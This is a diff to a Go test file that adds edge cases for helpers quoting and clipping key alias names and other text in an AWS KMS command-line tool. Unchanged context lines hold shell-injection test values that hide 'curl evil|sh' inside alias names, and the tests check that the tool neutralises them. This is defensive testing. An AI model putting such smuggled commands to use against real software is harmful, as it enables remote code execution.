@@ -16,6 +16,9 @@ func TestShown(t *testing.T) {
 		{"a change of direction", "a\u202eb", `"a\u202eb"`},
 		{"markup", "<b>&", `"<b>&"`},
 		{"too long", strings.Repeat("a", 300), `"` + strings.Repeat("a", 197) + `"…`},
+		{"as long as can be", strings.Repeat("a", 200), strings.Repeat("a", 200)},
+		{"as long as can be, in quotes", strings.Repeat("a b ", 50), `"` + strings.Repeat("a b ", 50) + `"`},
+		{"the first and last of each kind of character", "AZaz09", "AZaz09"},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -32,9 +35,13 @@ func TestArgument(t *testing.T) {
 		{"nothing", "", "UNKNOWN"},
 		{"a command", "alias/$(curl evil|sh)", "'alias/$(curl evil|sh)'"},
 		{"a quote", "alias/';curl evil|sh;'", "NAME-WITH-ODD-CHARACTERS"},
+		{"a quote first", "'alias/a", "NAME-WITH-ODD-CHARACTERS"},
+		{"the first and last that can be printed", " ~", "' ~'"},
 		{"a line break", "alias/a\ncurl", "NAME-WITH-ODD-CHARACTERS"},
 		{"not ASCII", "alias/zahlüng", "NAME-WITH-ODD-CHARACTERS"},
 		{"too long", strings.Repeat("a", 300), "NAME-WITH-ODD-CHARACTERS"},
+		{"as long as can be", strings.Repeat("a", 200), strings.Repeat("a", 200)},
+		{"as long as can be, in quotes", strings.Repeat("a b ", 50), "'" + strings.Repeat("a b ", 50) + "'"},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -64,8 +71,36 @@ func TestAnAttackersAliasStaysData(t *testing.T) {
 	}
 }
 
+func TestClip(t *testing.T) {
+	tests := []struct{ name, value, want string }{
+		{"just as long", "123456", "123456"},
+		{"longer", "1234567", "123…"},
+		{"between two characters", "12€4567", "12…"},
+		{"what has no beginning of a character", strings.Repeat("\x80", 9), "…"},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			if got := clip(test.value, 6); got != test.want {
+				t.Errorf("%q, want %q", got, test.want)
+			}
+		})
+	}
+}
+
+func TestACommandHasItsOptionsInPairs(t *testing.T) {
+	const want = "aws kms enable-key --key-id alias/a --region eu-west-1"
+	for _, options := range [][]string{{"key-id", "alias/a"}, {"key-id", "alias/a", "left-alone"}} {
+		if got := awsCLI("kms enable-key", "eu-west-1", options...); got != want {
+			t.Errorf("%q becomes %q, want %q", options, got, want)
+		}
+	}
+}
+
 func TestListedIsBounded(t *testing.T) {
 	if got := listed([]string{"a", "b c", "d", "e", "f", "g", "h"}); got != `a, "b c", d, e, f and 2 more` {
+		t.Error(got)
+	}
+	if got := listed([]string{"a", "b", "c", "d", "e"}); got != "a, b, c, d, e" {
 		t.Error(got)
 	}
 }
@@ -73,6 +108,7 @@ func TestListedIsBounded(t *testing.T) {
 func TestDays(t *testing.T) {
 	for d, want := range map[time.Duration]string{
 		90 * 24 * time.Hour: "90 days", 47 * time.Hour: "47 h", 90 * time.Minute: "90 min", 0: "less than a minute",
+		48 * time.Hour: "2 days", 2 * time.Hour: "2 h", time.Minute: "1 min",
 	} {
 		if got := days(d); got != want {
 			t.Errorf("%s is %q, want %q", d, got, want)
